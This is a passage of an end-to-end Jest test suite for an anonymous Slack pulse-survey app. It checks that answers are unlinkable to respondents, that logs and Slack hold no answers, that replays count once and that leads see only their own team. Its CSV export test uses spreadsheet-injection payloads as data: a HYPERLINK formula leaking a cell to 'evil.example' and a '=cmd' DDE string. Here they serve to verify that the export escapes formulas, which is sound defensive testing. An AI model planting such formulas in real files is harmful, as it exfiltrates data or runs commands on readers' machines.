           FROM people p JOIN round_invitations i ON i.person_id = p.id WHERE i.round_id = $1`,
        [],
      );
      const contentValues = new Set([
        ...(await values(`SELECT row_to_json(b) AS row FROM ballots b WHERE round_id = $1`, [
          'round_id',
        ])),
        ...(await values(`SELECT row_to_json(r) AS row FROM responses r WHERE round_id = $1`, [
          'round_id',
        ])),
        ...(await values(`SELECT row_to_json(a) AS row FROM answers a WHERE round_id = $1`, [
          'round_id',
        ])),
      ]);
      expect(contentValues.size).toBeGreaterThan(10);
      expect([...contentValues].filter((v) => participationValues.has(v))).toEqual([]);
      expect([...contentValues].filter((v) => identities.has(v))).toEqual([]);
    });

    it('while open, a join on transaction ids finds only sealed ballots: the same length each, no plaintext anywhere', async () => {
      // The claim and its ballot are written in one transaction, so xmin pairs them, as the
      // contract says; what it pairs a person with is ciphertext under the round's own key.
      const linked: { slack: string; sealed: Buffer }[] = await ds.query(
        `SELECT p.slack_user_id AS slack, b.sealed FROM round_invitations i
           JOIN people p ON p.id = i.person_id
           JOIN ballots b ON b.xmin = i.xmin AND b.round_id = i.round_id
          WHERE i.round_id = $1 AND i.responded`,
        [roundId],
      );
      expect(linked).toHaveLength(10);
      expect(new Set(linked.map((l) => l.sealed.length)).size).toBe(1);
      for (const { sealed } of linked) {
        expect(sealed.toString('latin1')).not.toContain(dbComment);
        expect(sealed.toString('utf8')).not.toContain(dbComment);
      }
      const [plain] = await ds.query(
        `SELECT (SELECT count(*)::int FROM responses WHERE round_id = $1) AS responses,
                (SELECT count(*)::int FROM answers WHERE round_id = $1) AS answers,
                (SELECT count(*)::int FROM round_tallies WHERE round_id = $1) AS tallies`,
        [roundId],
      );
      expect(plain).toEqual({ responses: 0, answers: 0, tallies: 0 });
      // No table of the app or of the job queue (jobs and archive) holds a comment.
      const tables: { s: string; t: string }[] = await ds.query(
        `SELECT table_schema AS s, table_name AS t FROM information_schema.tables
          WHERE table_schema IN ('public', 'pgboss') AND table_type = 'BASE TABLE'`,
      );
      expect(tables.length).toBeGreaterThan(10);
      for (const { s, t } of tables) {
        const [{ n }] = await ds.query(
          `SELECT count(*)::int AS n FROM "${s}"."${t}" AS x WHERE x::text LIKE $1`,
          [`%${dbComment}%`],
        );
        expect(`${s}.${t}: ${n}`).toBe(`${s}.${t}: 0`);
      }
    });

    it('after close, every response, answer and invitation row of the round carries one and the same transaction id', async () => {
      await closeRound(roundId);
      const rows: { tbl: string; x: string }[] = await ds.query(
        `SELECT 'responses' AS tbl, xmin::text AS x FROM responses WHERE round_id = $1
         UNION ALL SELECT 'answers', xmin::text FROM answers WHERE round_id = $1
         UNION ALL SELECT 'round_invitations', xmin::text FROM round_invitations WHERE round_id = $1`,
        [roundId],
      );
      expect(rows.filter((r) => r.tbl === 'responses')).toHaveLength(10);
      expect(rows.filter((r) => r.tbl === 'round_invitations')).toHaveLength(12);
      expect(new Set(rows.map((r) => r.x)).size).toBe(1);
      // The ballots and the round's key are gone with the close.
      const [left] = await ds.query(
        `SELECT (SELECT count(*)::int FROM ballots WHERE round_id = $1) AS ballots,
                (SELECT ballot_key FROM rounds WHERE id = $1) AS key`,
        [roundId],
      );
      expect(left).toEqual({ ballots: 0, key: null });
      // Fresh random (version 4) ids, not the ballots'.
      const ids: { id: string }[] = await ds.query(
        `SELECT id::text FROM responses WHERE round_id = $1`,
        [roundId],
      );
      for (const { id } of ids)
        expect(id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    });

    it('the job queue never keeps what was answered, and forgets who answered once the round closes', async () => {
      const jobs: { data: Record<string, unknown> }[] = await ds.query(
        `SELECT data FROM pgboss.job WHERE name = 'pulse.answered' AND data->>'roundId' = $1
         UNION ALL
         SELECT data FROM pgboss.archive WHERE name = 'pulse.answered' AND data->>'roundId' = $1`,
        [roundId],
      );
      // While open they carry only { roundId, personId } (see ResponsesService); close purges them.
      expect(jobs).toHaveLength(0);
      const leaked: { n: number }[] = await ds.query(
        `SELECT count(*)::int AS n FROM (
           SELECT data::text || coalesce(output::text, '') AS t FROM pgboss.job
           UNION ALL SELECT data::text || coalesce(output::text, '') FROM pgboss.archive) j
          WHERE t LIKE $1`,
        [`%${dbComment}%`],
      );
      expect(leaked[0].n).toBe(0);
    });

    it('a comment is stored in the answers table only: no other table of the database holds it', async () => {
      const tables: { s: string; t: string }[] = await ds.query(
        `SELECT table_schema AS s, table_name AS t FROM information_schema.tables
          WHERE table_schema IN ('public', 'pgboss') AND table_type = 'BASE TABLE'`,
      );
      expect(tables.length).toBeGreaterThan(10);
      const holding: string[] = [];
      for (const { s, t } of tables) {
        const [{ n }] = await ds.query(
          `SELECT count(*)::int AS n FROM "${s}"."${t}" AS x WHERE x::text LIKE $1`,
          [`%${dbComment}%`],
        );
        if (n > 0) holding.push(`${s}.${t}`);
      }
      expect(holding).toEqual(['public.answers']);
    });

    it('comments come back shuffled: their order does not replay the order of answering', async () => {
      const inAnswerOrder = answered
        .map(([, i]) => i)
        .filter((i) => i % 3 === 0)
        .map((i) => `${dbComment}-${i}`);
      expect(inAnswerOrder).toHaveLength(4);
      const orders = new Set<string>();
      for (let i = 0; i < 12; i++) {
        const res = await results(roundId);
        expect([...res.comments.map((c) => c.text)].sort()).toEqual([...inAnswerOrder].sort());
        orders.add(JSON.stringify(res.comments.map((c) => c.text)));
      }
      // 4 comments have 24 orders: twelve identical draws would happen once in 24^11.
      expect(orders.size).toBeGreaterThan(1);
      for (const c of (await results(roundId)).comments)
        expect(Object.keys(c).sort()).toEqual(['questionId', 'text']);
    });

    // Found by this suite: closing once only restamped xmin, so `ORDER BY ctid` replayed the
    // order of answering, and pg-boss kept each pulse.answered job (personId, created_on).
    // Zipping the two named every answer. Close now reshuffles and purges those jobs.
    it('after close, neither storage order nor leftover jobs replay who answered when', async () => {
      const byOrder: { value: string }[] = await ds.query(
        `SELECT a.value FROM responses r
           JOIN answers a ON a.response_id = r.id AND a.question_id = 'enps'
          WHERE r.round_id = $1 ORDER BY r.ctid`,
        [roundId],
      );
      const whoInOrder: { slack: string }[] = await ds.query(
        `SELECT p.slack_user_id AS slack FROM (
           SELECT data, created_on FROM pgboss.job WHERE name = 'pulse.answered'
           UNION ALL SELECT data, created_on FROM pgboss.archive WHERE name = 'pulse.answered'
         ) j JOIN people p ON p.id = (j.data->>'personId')::uuid
          WHERE j.data->>'roundId' = $1 ORDER BY j.created_on`,
        [roundId],
      );
      expect(byOrder).toHaveLength(10);
      expect(whoInOrder).toHaveLength(0);
      // Even knowing the true order of answering, the storage order does not give it back
      // (a random order matches it once in 10! rounds, fewer with repeated values).
      const submitted = answered.map(([, value]) => String(value));
      const stored = byOrder.map((r) => r.value);
      expect(stored.slice().sort()).toEqual(submitted.slice().sort());
      expect(stored).not.toEqual(submitted);
    });
  });

  // -----------------------------------------------------------------------------------------
  describe('logs and Slack after distinctive answers', () => {
    let tapRound: string;
    let modalRound: string;
    const logComment = secret('comment');
    const taps: [string, number][] = [];
    const modal: [string, number, number][] = [];
    let respondents: string[];

    beforeAll(async () => {
      const oneTap = await createSurvey('One tap', ONE_TAP_QUESTIONS, ['bravo']);
      tapRound = await openRound(oneTap, 5);
      for (const [i, u] of w.members.bravo.entries()) {
        const score = [5, 1, 4, 2, 3][i];
        await tapScore(w, u, tapRound, score).expect(200);
        taps.push([u, score]);
      }
      // The one-tap listener acks first and records after: wait for the five answers.
      await eventually(async () => (await participation(tapRound)).responded === 5, {
        what: 'five one-tap answers',
      });
      // A second tap of a different score: refused, and said so without any score.
      await tapScore(w, w.members.bravo[0], tapRound, 1).expect(200);
      await eventually(() => w.slack.ephemerals().some((e) => e.user === w.members.bravo[0]), {
        what: 'the already-answered ephemeral',
      });

      const withComment = await createSurvey('Modal', MODAL_QUESTIONS, ['charlie']);
      modalRound = await openRound(withComment, 6);
      // One agent presses "Answer" first (the modal opens), and again after answering.
      const clickAnswer = (user: string) =>
        postSlack(
          w,
          interactionBody(
            blockActionsPayload({
              userId: user,
              teamId: w.teamId,
              actionId: 'pulse_open_modal',
              value: modalRound,
              channelId: w.slack.dmChannelId(w.teamId, user),
              triggerId: w.slack.issueTriggerId({ userId: user }),
            }),
          ),
        ).expect(200);
      const viewsBefore = w.slack.openedViews().length;
      await clickAnswer(w.members.charlie[0]);
      await eventually(() => w.slack.openedViews().length === viewsBefore + 1, {
        what: 'the answer modal',
      });
      for (const [i, u] of w.members.charlie.entries()) {
        const [workload, enps] = [
          [4, 9],
          [2, 3],
          [5, 10],
          [1, 0],
          [3, 6],
          [4, 7],
        ][i];
        await answer(modalRound, u, workload, enps, `${logComment}-${i}`);
        modal.push([u, workload, enps]);
      }
      await clickAnswer(w.members.charlie[0]);
      await eventually(
        () =>
          w.slack
            .ephemerals()
            .some((e) => e.user === w.members.charlie[0] && /already answered/.test(e.text)),
        { what: 'the already-answered ephemeral of the modal' },
      );
      respondents = [...w.members.bravo, ...w.members.charlie];
      // Each invitation of these two rounds is updated after its answer (a job).
      const invitations: { dm_channel: string; dm_ts: string }[] = await ds.query(
        `SELECT dm_channel, dm_ts FROM round_invitations WHERE round_id = ANY($1::uuid[])`,
        [[tapRound, modalRound]],
      );
      expect(invitations).toHaveLength(11);
      await eventually(
        () =>
          invitations.every(({ dm_channel: channel, dm_ts: ts }) =>
            w.slack
              .messages(channel)
              .some((m) => m.ts === ts && /recorded anonymously/.test(m.text)),
          ),
        { what: 'every answered DM updated' },
      );
    });

    it('no log line holds a comment, a modal value or a tapped score', () => {
      expect(w.t.rawLogs.length).toBeGreaterThan(50);
      const leaks = w.t.rawLogs.filter((line) =>
        [logComment, 'selected_option', 'plain_text_input', 'pulse_score_', 'view_submission'].some(
          (marker) => line.includes(marker),
        ),
      );
      expect(leaks).toEqual([]);
    });

    it('no log line names a respondent (Slack id, person id or DM channel) together with anything they answered', async () => {
      const people: { id: string; slack_user_id: string }[] = await ds.query(
        `SELECT id, slack_user_id FROM people WHERE slack_user_id = ANY($1)`,
        [respondents],
      );
      const identities = [
        ...people.flatMap((p) => [p.id, p.slack_user_id]),
        ...respondents.map((u) => w.slack.dmChannelId(w.teamId, u)!),
      ];
      expect(identities).toHaveLength(respondents.length * 3);
      const answerMarkers = [
        new RegExp(logComment),
        /pulse_score_/,
        /selected_option/,
        /"values?":(?!"\[redacted\]")/,
        / · /,
        /"(workload|enps|mood)":/,
      ];
      const naming = w.t.rawLogs.filter((line) => identities.some((id) => line.includes(id)));
      const together = naming.filter((line) => answerMarkers.some((m) => m.test(line)));
      expect(together).toEqual([]);
      // Every logged Slack payload field is redacted, wherever it sits.
      for (const log of w.t.logs) {
        for (const key of ['payload', 'actions', 'state', 'values', 'comment', 'answers']) {
          if (key in log) expect(log[key]).toBe('[redacted]');
        }
      }
    });

    it('each answered DM was replaced by a message with no buttons and no value', async () => {
      const dms: { slack: string; round_id: string; dm_channel: string; dm_ts: string }[] =
        await ds.query(
          `SELECT p.slack_user_id AS slack, i.round_id, i.dm_channel, i.dm_ts
             FROM round_invitations i JOIN people p ON p.id = i.person_id
            WHERE i.round_id = ANY($1::uuid[])`,
          [[tapRound, modalRound]],
        );
      expect(dms.map((d) => d.slack).sort()).toEqual([...respondents].sort());
      for (const { round_id: round, dm_channel: channel, dm_ts: ts } of dms) {
        const dm = w.slack.messages(channel).filter((m) => m.ts === ts);
        expect(dm).toHaveLength(1);
        expect(dm[0].text).toMatch(/recorded anonymously/);
        expect((dm[0].blocks ?? []).map((b) => b.type)).not.toContain('actions');
        const shown = JSON.stringify(dm[0]);
        expect(shown).not.toMatch(/pulse_score|pulse_open_modal| · |score/i);
        expect(shown).not.toContain(logComment);
        expect(shown).not.toContain(round);
        // Nothing was posted into their DM after the invitation: it was only updated.
        const posted = w.slack
          .calls('chat.postMessage')
          .filter((c) => c.params.channel === channel);
        expect(posted.findIndex((c) => JSON.stringify(c.params).includes(round))).toBe(
          posted.length - 1,
        );
        const updates = w.slack
          .calls('chat.update')
          .filter((c) => c.params.channel === channel && c.params.ts === ts);
        expect(updates).toHaveLength(1);
        expect(JSON.stringify(updates[0].params)).not.toMatch(/actions|pulse_score| · |score/i);
      }
    });

    it('nothing Slack keeps (messages, ephemerals, updates, views, App Home, response urls) holds a comment or says which score someone gave', async () => {
      const slashReplies: unknown[] = [];
      for (const u of [w.members.charlie[0], w.members.bravo[0]]) {
        slashReplies.push((await slashPulse(w, u).expect(200)).body);
      }
      const kept = JSON.stringify([
        w.slack.messages(),
        w.slack.ephemerals(),
        w.slack.openedViews(),
        w.slack.responses(),
        respondents.map((u) => w.slack.homeView(u) ?? null),
        w.slack.calls().map((c) => c.params),
        slashReplies,
      ]);
      expect(kept).not.toContain(logComment);
      expect(kept).not.toMatch(
        /you (answered|chose|picked|gave|scored)\s*\*?\d|your (answer|score) (was|is)\s*\*?\d|score:\s*\d/i,
      );
      for (const e of w.slack.ephemerals().filter((x) => respondents.includes(x.user))) {
        expect(JSON.stringify(e)).not.toMatch(/\d · |pulse_score|score/i);
      }
      // The refused second tap and the second "Answer" said so, without a value; the modal
      // that was opened holds the questions only.
      for (const u of [w.members.bravo[0], w.members.charlie[0]]) {
        const refusal = w.slack.ephemerals().find((e) => e.user === u)!;
        expect(refusal.text).toMatch(/already answered/);
      }
      const views = w.slack.openedViews().filter((v) => v.userId === w.members.charlie[0]);
      expect(views).toHaveLength(1);
      expect(JSON.stringify(views[0].view)).toContain('Anything you want HR to know?');
      expect(JSON.stringify(views[0].view)).not.toMatch(/initial_option|initial_value/);
    });

    it('the one-tap and modal answers were recorded exactly as given (so the checks above looked at real answers)', async () => {
      await closeRound(tapRound);
      await closeRound(modalRound);
      const tap = await results(tapRound);
      expect(figures(tap, 'mood')).toMatchObject({
        n: 5,
        distribution: { '1': 1, '2': 1, '3': 1, '4': 1, '5': 1 },
      });
      const res = await results(modalRound);
      expect(figures(res, 'workload').mean).toBe(3.17);
      expect(res.comments.map((c) => c.text).sort()).toEqual(
        modal.map((_, i) => `${logComment}-${i}`).sort(),
      );
      expect(taps).toHaveLength(5);
    });
  });

  // -----------------------------------------------------------------------------------------
  describe('the CSV export', () => {
    const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")';
    let roundId: string;
    const csvComment = secret('csv');

    beforeAll(async () => {
      const survey = await createSurvey(
        'Export',
        [
          { id: 'workload', kind: 'scale5', prompt: FORMULA },
          { id: 'enps', kind: 'enps', prompt: '+1+1 How likely are you to recommend us?' },
          { id: 'comment', kind: 'text', prompt: '@SUM(1) anything else?' },
        ],
        ['alpha', 'bravo', 'charlie'],
      );
      roundId = await openRound(survey, 18);
      for (const [i, u] of w.members.alpha.entries())
        await answer(roundId, u, A_WORKLOAD[i], A_ENPS[i], csvComment);
      for (const [i, u] of w.members.bravo.slice(0, 3).entries())
        await answer(roundId, u, B_WORKLOAD[i], B_ENPS[i], csvComment);
      for (const u of w.members.charlie) await answer(roundId, u, 3, 8);
      await closeRound(roundId);
    });

    it('holds aggregates only: one line per scope and question, suppressed groups without numbers', async () => {
      const rows = await csv(roundId);
      expect(rows[0].join(',')).toBe(CSV_HEADER);
      // At most header + (round + 3 teams) × 3 questions; here 2 scored questions per shown scope.
      expect(rows.length).toBeLessThanOrEqual(1 + 4 * 3);
      expect(rows.map((r) => [r[0], r[1], r[2]])).toEqual([
        ['scope', 'team', 'question_id'],
        ['round', '', 'workload'],
        ['round', '', 'enps'],
        ['team', 'alpha', 'workload'],
        ['team', 'alpha', 'enps'],
        ['team', 'bravo', ''],
        ['team', 'charlie', ''],
      ]);
      for (const name of ['bravo', 'charlie']) {
        expect(rows.find((r) => r[1] === name)).toEqual([
          'team',
          name,
          '',
          'suppressed',
          '',
          '',
          '',
          '',
          '',
        ]);
      }
      expect(rows[1][4]).toBe('16');
      expect(rows[3][4]).toBe('7');
      const text = rows.flat().join('\n');
      expect(text).not.toContain(csvComment);
      for (const u of Object.values(w.members).flat()) expect(text).not.toContain(u);
    });

    it('neutralises spreadsheet formulas in prompts and team names', async () => {
      await request(w.t.url)
        .patch(`/api/teams/${w.teamIds.bravo}`)
        .set(admin)
        .send({ name: '=cmd|"/C calc"!A0' })
        .expect(200);
      try {
        const rows = await csv(roundId);
        const prompts = rows.filter((r) => r[2] === 'workload').map((r) => r[3]);
        expect(prompts).toHaveLength(2);
        for (const p of prompts) expect(p).toBe(`'${FORMULA}`);
        for (const r of rows.filter((x) => x[2] === 'enps')) expect(r[3]).toMatch(/^'\+1\+1/);
        expect(rows.some((r) => r[1] === `'=cmd|"/C calc"!A0`)).toBe(true);
        // No cell at all starts a formula.
        for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      } finally {
        await request(w.t.url)
          .patch(`/api/teams/${w.teamIds.bravo}`)
          .set(admin)
          .send({ name: 'bravo' })
          .expect(200);
      }
    });
  });

  // -----------------------------------------------------------------------------------------
  describe('double submission and replay', () => {
    it('replaying the same signed view_submission, sequentially or at once, records one response', async () => {
      const survey = await createSurvey('Replay', MODAL_QUESTIONS, ['bravo']);
      const roundId = await openRound(survey, 5);
      const signedSubmission = (user: string, workload: number, enps: number) => {
        const body = interactionBody(
          pulseAnswerPayload({
            userId: user,
            teamId: w.teamId,
            roundId,
            answers: {
              workload: { kind: 'scale5', value: String(workload) },
              enps: { kind: 'enps', value: String(enps) },
            },
          }),
        );
        return { body, headers: signSlackRequest(body, TEST_SIGNING_SECRET) };
      };
      const replay = ({ body, headers }: { body: string; headers: Creds }) =>
        request(w.t.url)
          .post('/slack/events')
          .set('Content-Type', 'application/x-www-form-urlencoded')
          .set(headers)
          .send(body)
          .expect(200);

      const first = signedSubmission(w.members.bravo[0], 5, 10);
      expect((await replay(first)).body).toEqual({});
      const again = await replay(first);
      expect(again.body).toMatchObject({ response_action: 'errors' });
      expect(JSON.stringify(again.body)).toContain('already answered');
      expect(await participation(roundId)).toMatchObject({ responded: 1 });

      const burst = signedSubmission(w.members.bravo[1], 5, 10);
      const bodies = (await Promise.all([replay(burst), replay(burst), replay(burst)])).map(
        (r) => r.body,
      );
      expect(bodies.filter((b) => JSON.stringify(b) === '{}')).toHaveLength(1);
      expect(await participation(roundId)).toMatchObject({ responded: 2 });

      for (const u of w.members.bravo.slice(2)) await answer(roundId, u, 1, 0);
      await closeRound(roundId);
      const res = await results(roundId);
      expect(res.respondents).toBe(5);
      expect(figures(res, 'workload')).toMatchObject({
        n: 5,
        distribution: { '1': 3, '2': 0, '3': 0, '4': 0, '5': 2 },
      });
      expect(figures(res, 'enps')).toMatchObject({ n: 5, enps: -20 });
    });

    it('double-tapping a one-tap score, one after the other or at once, counts once', async () => {
      const survey = await createSurvey('Double tap', ONE_TAP_QUESTIONS, ['bravo']);
      const roundId = await openRound(survey, 5);
      const [first, second, ...rest] = w.members.bravo;
      const refusals = () =>
        w.slack
          .ephemerals()
          .filter((e) => [first, second].includes(e.user) && /already answered/.test(e.text))
          .length;
      const refusedBefore = refusals();
      await tapScore(w, first, roundId, 5).expect(200);
      await eventually(async () => (await participation(roundId)).responded === 1, {
        what: 'the first tap',
      });
      await tapScore(w, first, roundId, 1).expect(200);
      await Promise.all([
        tapScore(w, second, roundId, 2).expect(200),
        tapScore(w, second, roundId, 2).expect(200),
        tapScore(w, second, roundId, 2).expect(200),
      ]);
      for (const u of rest) await tapScore(w, u, roundId, 3).expect(200);
      await eventually(async () => (await participation(roundId)).responded === 5, {
        what: 'five tapped answers',
      });
      // The refused taps are told so (ephemeral), after which nothing else can still land.
      await eventually(() => refusals() === refusedBefore + 3, {
        what: 'three already-answered ephemerals',
      });
      expect(await participation(roundId)).toMatchObject({ invited: 5, responded: 5 });
      await closeRound(roundId);
      const res = await results(roundId);
      expect(res.respondents).toBe(5);
      expect(figures(res, 'mood')).toMatchObject({
        n: 5,
        distribution: { '1': 0, '2': 1, '3': 3, '4': 0, '5': 1 },
      });
    });

    it('acknowledges a tap only once it is recorded: one that fails is not acked, and the tap again counts', async () => {
      const survey = await createSurvey('Tap while the database is away', ONE_TAP_QUESTIONS, [
        'bravo',
      ]);
      const roundId = await openRound(survey, 5);
      const [agent] = w.members.bravo;
      const responses = w.t.app.get(ResponsesService);
      const answer = jest
        .spyOn(responses, 'answer')
        .mockRejectedValueOnce(new Error('Connection terminated unexpectedly'));
      try {
        const failed = await tapScore(w, agent, roundId, 4);
        // Slack shows the button failed; the agent was never told it was taken.
        expect(failed.status).toBeGreaterThanOrEqual(500);
        expect(await participation(roundId)).toMatchObject({ responded: 0 });
        // Answered in the acknowledgement's time: the answer is in before the 200.
        await tapScore(w, agent, roundId, 4).expect(200);
        expect(await participation(roundId)).toMatchObject({ responded: 1 });
        expect(answer).toHaveBeenCalledTimes(2);
      } finally {
        answer.mockRestore();
      }
      await closeRound(roundId);
    });
  });

  // -----------------------------------------------------------------------------------------
  // Last: installing a second workspace makes the operator credential need its header.
  describe('role and workspace scoping', () => {
    let roundId: string;
    let surveyId: string;
    const leadComment = secret('lead');

    beforeAll(async () => {
      surveyId = await createSurvey('Scoped', MODAL_QUESTIONS, ['alpha', 'bravo', 'charlie']);
      roundId = await openRound(surveyId, 18);
      for (const [i, u] of w.members.alpha.entries())
        await answer(roundId, u, A_WORKLOAD[i], A_ENPS[i], leadComment);
      for (const [i, u] of w.members.bravo.slice(0, 3).entries())
        await answer(roundId, u, B_WORKLOAD[i], B_ENPS[i], leadComment);
      for (const u of w.members.charlie) await answer(roundId, u, 3, 8, leadComment);
      await closeRound(roundId);
    });

    it('a lead of a hidden team sees only their team, as suppressed, and no overall figures or comments', async () => {
      const lead = await leadOf('bravo');
      for (const res of [
        await results(roundId, { as: lead }),
        await results(roundId, { as: lead, groupBy: true }),
      ]) {
        expect(res).not.toHaveProperty('respondents');
        expect(res).toMatchObject({ questions: [], comments: [] });
        expect(res.groups).toEqual([{ key: w.teamIds.bravo, name: 'bravo', suppressed: true }]);
        const numbers = numericLeaves(res).filter(
          ([path]) => path !== '.k' && !path.startsWith('.participation.'),
        );
        expect(numbers).toEqual([]);
        expect(JSON.stringify(res)).not.toMatch(new RegExp(`${leadComment}|alpha|charlie`));
      }
      const rows = await csv(roundId, lead);
      expect(rows).toEqual([
        CSV_HEADER.split(','),
        ['team', 'bravo', '', 'suppressed', '', '', '', '', ''],
      ]);
      const trends = await request(w.t.url)
        .get(`/api/surveys/${surveyId}/trends?groupBy=team`)
        .set(lead)
        .expect(200);
      expect(trends.body.rounds).toHaveLength(1);
      expect(trends.body.rounds[0]).toMatchObject({ questions: [] });
      expect(trends.body.rounds[0]).not.toHaveProperty('comments');
      expect(trends.body.rounds[0].groups).toEqual([
        { key: w.teamIds.bravo, name: 'bravo', suppressed: true },
      ]);
    });

    it('a lead sees the participation of their own team only: the round, its results and trends', async () => {
      const lead = await leadOf('bravo');
      // bravo: 5 invited, 3 answered; the workspace: 18 invited, 16 answered.
      const round = await request(w.t.url).get(`/api/rounds/${roundId}`).set(lead).expect(200);
      expect(round.body.participation).toEqual({ invited: 5, responded: 3, rate: 0.6 });
      const res = await results(roundId, { as: lead, groupBy: true });
      expect((res as unknown as { participation: unknown }).participation).toEqual({
        invited: 5,
        responded: 3,
        rate: 0.6,
      });
      const trends = await request(w.t.url)
        .get(`/api/surveys/${surveyId}/trends`)
        .set(lead)
        .expect(200);
      expect(trends.body.rounds[0].participation).toEqual({ invited: 5, responded: 3, rate: 0.6 });
      // HR sees the workspace.
      expect(await participation(roundId)).toEqual({ invited: 18, responded: 16, rate: 0.889 });
    });

    it('a lead of a shown team sees their team’s figures only, without comments', async () => {
      const lead = await leadOf('alpha');
      const res = await results(roundId, { as: lead, groupBy: true });
      expect(res).not.toHaveProperty('respondents');
      expect(res).toMatchObject({ questions: [], comments: [] });
      expect(res.groups).toHaveLength(1);
      expect(res.groups![0]).toMatchObject({ name: 'alpha', suppressed: false, respondents: 7 });
      expect(res.groups![0]).not.toHaveProperty('comments');
      expect(figures(res.groups![0], 'workload')).toMatchObject({ n: 7, mean: 3.86 });
      expect(JSON.stringify(res)).not.toContain(leadComment);
      const rows = await csv(roundId, lead);
      expect(rows.map((r) => r.slice(0, 3))).toEqual([
        ['scope', 'team', 'question_id'],
        ['team', 'alpha', 'workload'],
        ['team', 'alpha', 'enps'],
      ]);
    });

    it('a lead cannot widen their view: no survey list, no settings, no tokens', async () => {
      const lead = await leadOf('bravo');
      await request(w.t.url).get('/api/surveys').set(lead).expect(403);
      await request(w.t.url).get('/api/settings').set(lead).expect(403);
      await request(w.t.url)
        .patch('/api/settings')
        .set(lead)
        .send({ anonymityThreshold: 3 })
        .expect(403);
      await request(w.t.url)
        .post('/api/tokens')
        .set(lead)
        .send({ name: 'wider', role: 'hr' })
        .expect(403);
      expect((await results(roundId, { groupBy: true })).k).toBe(K);
    });

    it('an HR token of another workspace gets 404 for the round, its results, CSV and trends', async () => {
      await installSecondWorkspace(w, 'T0OTHER01');
      const other = { ...w.admin, 'X-Pulsedesk-Workspace': 'T0OTHER01' };
      const token = (
        await request(w.t.url)
          .post('/api/tokens')
          .set(other)
          .send({ name: 'other hr', role: 'hr' })
          .expect(201)
      ).body.token as string;
      const hr = { Authorization: `Bearer ${token}` };
      for (const creds of [hr, other]) {
        for (const path of [
          `/api/rounds/${roundId}`,
          `/api/rounds/${roundId}/results`,
          `/api/rounds/${roundId}/results?groupBy=team`,
          `/api/rounds/${roundId}/results.csv?groupBy=team`,
          `/api/surveys/${surveyId}`,
          `/api/surveys/${surveyId}/trends?groupBy=team`,
        ]) {
          const res = await request(w.t.url).get(path).set(creds);
          expect([path, res.status]).toEqual([path, 404]);
          expect(res.text).not.toContain(leadComment);
        }
        await request(w.t.url).post(`/api/rounds/${roundId}/close`).set(creds).expect(404);
        const surveys = await request(w.t.url).get('/api/surveys').set(creds).expect(200);
        expect(surveys.body).toEqual([]);
      }
      // Our own workspace still reads it.
      expect((await results(roundId)).respondents).toBe(16);
    });
  });
});
